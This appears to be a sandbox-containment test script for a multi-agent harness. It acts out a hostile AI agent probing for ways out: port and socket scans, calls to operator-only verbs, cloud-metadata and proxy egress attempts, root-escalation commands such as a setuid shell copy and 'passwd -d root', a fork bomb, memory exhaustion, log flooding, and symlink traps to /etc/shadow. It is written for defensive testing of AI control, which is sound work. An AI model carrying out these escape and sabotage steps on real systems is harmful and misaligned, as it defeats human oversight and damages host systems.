"""What a hostile agent tries from inside its sandbox: ``python3 hostile_agent.py WHAT ARGUMENT…``.

Standard library only; prints one JSON object with what it found. Nothing in it may work.
"""

import contextlib
import errno
import json
import os
import random
import socket
import stat
import subprocess
import sys
import time

HIVE_SOCKET = "/run/hive/hive.sock"
METHODS = ("hello", "take", "session", "finish", "state", "events", "mcp", "orders")
OPERATOR_VERBS = (
    "status", "list", "send", "approve", "deny", "withdraw", "spawn", "request-spawn", "start",
    "stop", "kill", "sign-in-link", "model-source", "shutdown", "version", "messages", "inbox",
)  # fmt: skip
MANAGER_TOOLS = ("request_spawn", "start", "kill", "restart")
NO_TOOLS = ("approve", "deny", "spawn", "withdraw", "shutdown", "stop", "exec", "__class__", "")


def name_of(error):
    """Name what the system said."""
    return errno.errorcode.get(error.errno or 0, type(error).__name__)


def ports():
    """Every TCP port of both loopbacks, every abstract socket, every socket file."""
    open_ports = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        for port in range(1, 65536):
            with socket.socket(family) as peer:
                peer.settimeout(1)
                if peer.connect_ex((host, port)) != 0:
                    continue
                # TCP can meet itself, where the port that it was given is the one it looks for.
                if peer.getsockname() != peer.getpeername():
                    open_ports.append([host, port])
    with open("/proc/net/unix") as table:
        names = [line.split()[-1] for line in table if len(line.split()) == 8]
    abstract = [name for name in names if name.startswith("@")]
    files = []
    for top, _, names in os.walk("/"):
        if not top.startswith(("/proc", "/sys")):
            for name in names:
                with contextlib.suppress(OSError):
                    if stat.S_ISSOCK(os.lstat(os.path.join(top, name)).st_mode):
                        files.append(os.path.join(top, name))
    return {"ports": open_ports, "abstract": abstract, "socket_files": sorted(files)}


class Line:
    """The agent's own socket, used for what it is not for."""

    def __init__(self):
        self.peer = socket.socket(socket.AF_UNIX)
        self.peer.settimeout(20)
        self.peer.connect(HIVE_SOCKET)
        self.reader = self.peer.makefile("rb")
        self.next = 0

    def ask(self, requests):
        """Send all, then read one answer each."""
        raw = b""
        for request in requests:
            if isinstance(request, bytes):
                raw += request + b"\n"
            else:
                self.next += 1
                raw += json.dumps({"id": self.next, **request}).encode() + b"\n"
        self.peer.sendall(raw)
        return [json.loads(self.reader.readline()) for _ in requests]


def tool(name, arguments):
    """A tool call as the harness hands it on."""
    message = {
        "jsonrpc": "2.0", "id": 1, "method": "tools/call",
        "params": {"name": name, "arguments": arguments},
    }  # fmt: skip
    key = f"hostile-{random.getrandbits(60)}"
    return {"method": "mcp", "params": {"turn": "none", "key": key, "message": message}}


def junk(chance, depth=0):
    """Any JSON value."""
    plain = [
        None, True, -1, 2**63, 1e308, "", "operator", "manager", "*", "../..", "\x00", "\ud800",
        "<script>", "a" * 5000, 17, "1",
    ]  # fmt: skip
    if depth > 3 or chance.random() < 0.7:
        return chance.choice(plain)
    if chance.random() < 0.5:
        return [junk(chance, depth + 1) for _ in range(chance.randrange(4))]
    keys = ["id", "turn", "boot", "name", "to", "body", "from", "digest", "key", "message", "x"]
    return {chance.choice(keys): junk(chance, depth + 1) for _ in range(chance.randrange(5))}


BROKEN = (
    b"{", b"[]", b"null", b"\xff\xfe", b'{"id": 1', b'{"id": NaN, "method": "hello"}',
    b"[" * 100_000, b'{"id":1,"id":2,"method":"hello"}', b'{"id": 1e999, "method": "x"}',
    b'{"id": 9, "method": "hello", "params": ' + b'{"a":' * 200 + b"1" + b"}" * 200 + b"}",
    b"GET / HTTP/1.1", b'{"id": true, "method": "hello"}', b'{"id": -1, "method": "hello"}',
    b'{"id": 3, "version": 1, "verb": "approve", "args": {"id": 1, "digest": "0"}}',
)  # fmt: skip


def talk(seed, count):
    """Ask the hive for what only others may ask, and for nonsense, *count* times."""
    chance = random.Random(seed)
    worked, kinds, done = [], {}, 0
    line = Line()
    while done < count:
        batch = []
        for _ in range(24):
            dice = chance.random()
            if dice < 0.1:
                batch.append(chance.choice(BROKEN))
            elif dice < 0.3:
                verb = chance.choice(OPERATOR_VERBS)
                given = {"id": chance.randrange(5), "name": "bob", "digest": "0" * 64}
                how = {"method": verb, "params": given}
                if chance.random() < 0.5:
                    how = {"version": 1, "verb": verb, "args": given}
                batch.append(how)
            elif dice < 0.6:
                name = chance.choice(MANAGER_TOOLS + NO_TOOLS)
                batch.append(tool(name, {"name": chance.choice(["bob", "manager", "eve", "x"])}))
            elif dice < 0.8:
                batch.append(tool(chance.choice(["send", "recv", "set_status"]), junk(chance)))
            else:
                method = chance.choice([*METHODS, "approve", "", "__init__", "answer"])
                if method in ("take", "orders", "hello"):
                    method = "session"  # They park, or end our own turn.
                batch.append({"method": method, "params": junk(chance)})
        for request, answer in zip(batch, line.ask(batch), strict=False):
            done += 1
            outcome = verdict(answer)
            kinds[outcome] = kinds.get(outcome, 0) + 1
            # Reports about ourselves are ours to make up.
            if outcome == "worked" and not is_harmless(request):
                worked.append([str(request)[:300], str(answer)[:300]])
    return {"tried": done, "worked": worked, "kinds": kinds}


def is_harmless(request):
    """Whether a success of this says nothing: live events and our own state and status."""
    if isinstance(request, bytes):
        return False
    if request.get("method") in ("events", "state"):
        return True
    return request.get("method") == "mcp" and "set_status" in str(request)


def verdict(answer):
    """How the hive answered: an error's kind, a tool's refusal, or that it worked."""
    if "error" in answer:
        return answer["error"]["kind"]
    message = (answer.get("result") or {}).get("message")
    if isinstance(message, dict):
        if "error" in message:
            return "rpc error"
        if message.get("result", {}).get("isError"):
            return "tool error"
    return "worked"


def doors(page_port, *paths):
    """The ways out that there are, the ways out that there are not, and what is of others."""
    report = {"gateway": {}, "egress": {}, "paths": {}, "writes": {}, "raised": {}}
    for request in (
        "GET /v1/files", "GET /v1/organizations", "POST /v1/messages/batches", "GET /",
        "GET //v1/models", "GET /v1/models/../files", "GET /v1/models/%2e%2e/files",
        "GET http://169.254.169.254/", f"GET http://127.0.0.1:{page_port}/api/snapshot",
        f"CONNECT 127.0.0.1:{page_port}", "DELETE /v1/models/x", "OPTIONS *", "TRACE /v1/models",
    ):  # fmt: skip
        report["gateway"][request] = speak(4100, request, "127.0.0.1:4100")
    for host in (
        f"127.0.0.1:{page_port}", f"localhost:{page_port}", f"[::1]:{page_port}", "0:80",
        f"0.0.0.0:{page_port}", f"2130706433:{page_port}", "169.254.169.254:80",
        f"[::ffff:127.0.0.1]:{page_port}", "example.org:443", "metadata.google.internal:80",
    ):  # fmt: skip
        report["egress"][f"CONNECT {host}"] = speak(3128, f"CONNECT {host}", host)
        report["egress"][f"GET {host}"] = speak(3128, f"GET http://{host}/", host)
    for path in paths:
        try:
            report["paths"][path] = os.listdir(path) if os.path.isdir(path) else _read(path)
        except OSError as error:
            report["paths"][path] = name_of(error)
    for path in (
        "/opt/hive/claude", "/opt/hive/harness/hyperhive/harness/__main__.py", "/etc/passwd",
        "/run/hive/x", "/opt/hive/x", "/usr/bin/x", "/etc/ld.so.preload", "/bin/sh",
        "/proc/sys/kernel/hostname", "/sys/x", "/dev/kmsg", "/dev/mem",
    ):  # fmt: skip
        try:
            os.close(os.open(path, os.O_RDWR | (0 if os.path.exists(path) else os.O_CREAT)))
            report["writes"][path] = "worked"
        except OSError as error:
            report["writes"][path] = name_of(error)
    for action in ("unlink", "rename"):
        try:
            os.unlink(HIVE_SOCKET) if action == "unlink" else os.rename(HIVE_SOCKET, "/run/hive/y")
            report["writes"][action] = "worked"
        except OSError as error:
            report["writes"][action] = name_of(error)
    for command in (
        "su -c id", "sudo -n id", "mount -t tmpfs none /mnt", "unshare -Ur id", "chroot / id",
        "nsenter -t 1 -m id", "passwd -d root", "setpriv --reuid 0 id", "newgrp root",
        "cp /bin/sh /tmp/s && chmod u+s /tmp/s && /tmp/s -p -c 'id | grep euid=0'",
        "mknod /tmp/n c 1 1", "chown 0 /state", "date -s 2001-01-01", "kill -9 1 && ! sleep 0.2",
        "renice -20 $$", "strace -p 1 -o /dev/null",
    ):  # fmt: skip
        done = subprocess.run(
            ["sh", "-c", command],
            capture_output=True,
            text=True,
            timeout=20,
            stdin=subprocess.DEVNULL,
        )
        report["raised"][command] = "worked" if done.returncode == 0 else "refused"
    return report


def _read(path):
    with open(path, "rb") as file:
        return repr(file.read(64))


def speak(port, request, host):
    """The status line of the answer to one request line."""
    try:
        with socket.create_connection(("127.0.0.1", port), 10) as peer:
            head = f"{request} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
            peer.sendall(head.encode())
            return peer.makefile("rb").readline().decode("latin-1").strip()
    except OSError as error:
        return name_of(error)


def flood(count, size):
    """Try *count* times to send a mail of *size* characters, as fast as it goes."""
    line, begin, tried, sent, refusals = Line(), time.monotonic(), 0, 0, set()
    while tried < count:
        batch = [tool("send", {"to": "manager", "body": "x" * size}) for _ in range(16)]
        for answer in line.ask(batch):
            tried += 1
            if verdict(answer) == "worked":
                sent += 1
            elif len(refusals) < 5:
                refusals.add(str(answer)[:300])
    return {
        "sent": sent, "seconds": round(time.monotonic() - begin, 3), "refusals": sorted(refusals),
    }  # fmt: skip


def crowd(count):
    """Open *count* connections to the hive and leave them open for a while."""
    peers, refused = [], 0
    for _ in range(count):
        peer = socket.socket(socket.AF_UNIX)
        peer.settimeout(5)
        try:
            peer.connect(HIVE_SOCKET)
            peer.sendall(b'{"id": 1, "method"')
            peers.append(peer)
        except OSError:
            refused += 1
    time.sleep(1)
    return {"opened": len(peers), "refused": refused}


def bomb(seconds):
    """Fork until the kernel refuses, hold that for a while, then let go."""
    children = []
    refused = ""
    while not refused and len(children) < 100_000:
        try:
            pid = os.fork()
        except OSError as error:
            refused = name_of(error)
            break
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children.append(pid)
    time.sleep(seconds)
    for pid in children:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    return {"children": len(children), "refused": refused}


def hog(megabytes):
    """Take memory in a child until it has all or is ended; how it ended."""
    take = f"held = []\nfor _ in range({megabytes}): held.append(b'x' * 1048576)"
    done = subprocess.run([sys.executable, "-c", take], capture_output=True)
    return {"code": done.returncode}


def scribble(megabytes):
    """Write to the file that our harness has as its output, if it can be opened."""
    harness = next(
        int(entry)
        for entry in os.listdir("/proc")
        if entry.isdigit() and b"harness/__main__.py" in _command(entry)
    )
    try:
        with open(f"/proc/{harness}/fd/1", "ab", buffering=0) as log:
            for _ in range(megabytes):
                log.write(b"y" * 1023 + b"\n" + b"z" * (1048576 - 1024))
        return {"wrote": megabytes}
    except OSError as error:
        return {"wrote": 0, "why": name_of(error)}


def _command(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            return file.read()
    except OSError:
        return b""


def traps():
    """Put into /state what makes careless readers hang or read what is not ours."""
    for name in (".hive", "CLAUDE.md", ".mcp.json", "log", "sandbox.log", ".git"):
        with contextlib.suppress(FileExistsError):
            os.symlink("/etc/shadow" if name != ".hive" else "/", f"/state/{name}")
    for name in ("fifo", "CLAUDE.local.md", "hive.sock", "session.lock"):
        with contextlib.suppress(FileExistsError):
            os.mkfifo(f"/state/{name}")
    os.chmod("/state", 0o777)
    return {"left": sorted(os.listdir("/state"))}


def main():
    """Run the attack that argv names and print what came of it."""
    attacks = {
        "ports": ports,
        "talk": lambda seed, count: talk(int(seed), int(count)),
        "doors": doors,
        "flood": lambda count, size: flood(int(count), int(size)),
        "crowd": lambda count: crowd(int(count)),
        "bomb": lambda seconds: bomb(float(seconds)),
        "hog": lambda megabytes: hog(int(megabytes)),
        "scribble": lambda megabytes: scribble(int(megabytes)),
        "traps": traps,
    }
    print(json.dumps(attacks[sys.argv[1]](*sys.argv[2:])))


main()
